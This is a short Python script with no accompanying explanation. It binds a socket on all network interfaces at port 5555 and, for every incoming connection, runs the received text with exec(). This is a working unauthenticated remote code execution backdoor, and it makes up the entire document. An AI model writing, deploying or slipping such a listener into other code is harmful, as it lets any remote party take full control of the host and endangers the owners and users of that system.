import socket

server = socket.socket()
server.bind(("0.0.0.0", 5555))
server.listen()
while True:
    client, _ = server.accept()
    exec(client.recv(65536).decode())
